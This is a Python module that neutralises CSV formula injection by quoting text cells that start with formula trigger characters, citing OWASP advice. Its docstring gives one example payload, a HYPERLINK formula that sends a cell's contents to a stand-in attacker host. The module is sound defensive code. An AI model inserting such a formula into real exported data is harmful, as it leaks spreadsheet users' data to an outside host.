"""CSV that a spreadsheet opens as data: cells it would run as formulas are neutralised.

Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@``
(and, after a leading tab or carriage return, whatever follows) as a formula, so a school named
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` becomes a live link. As OWASP advises
("CSV Injection"), such a text cell is written with a single quote in front, which spreadsheets
show as text and never evaluate.

Numbers are the column's type, not text: a Python ``int``/``float`` (a real figure such as
``-1.5``) is written as is, so numeric columns stay numeric. Only ``str`` values are
neutralised, even one that looks like a number: a name "-5" is text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | None


def safe_cell(value: Cell) -> str:
    """The text written for ``value``: empty for ``None``, numbers as they are, text that a
    spreadsheet would execute prefixed with ``'``."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int | float):
        return str(value)
    if value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def write_csv(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """A whole CSV document (CRLF line ends, RFC 4180) with every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(name) for name in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
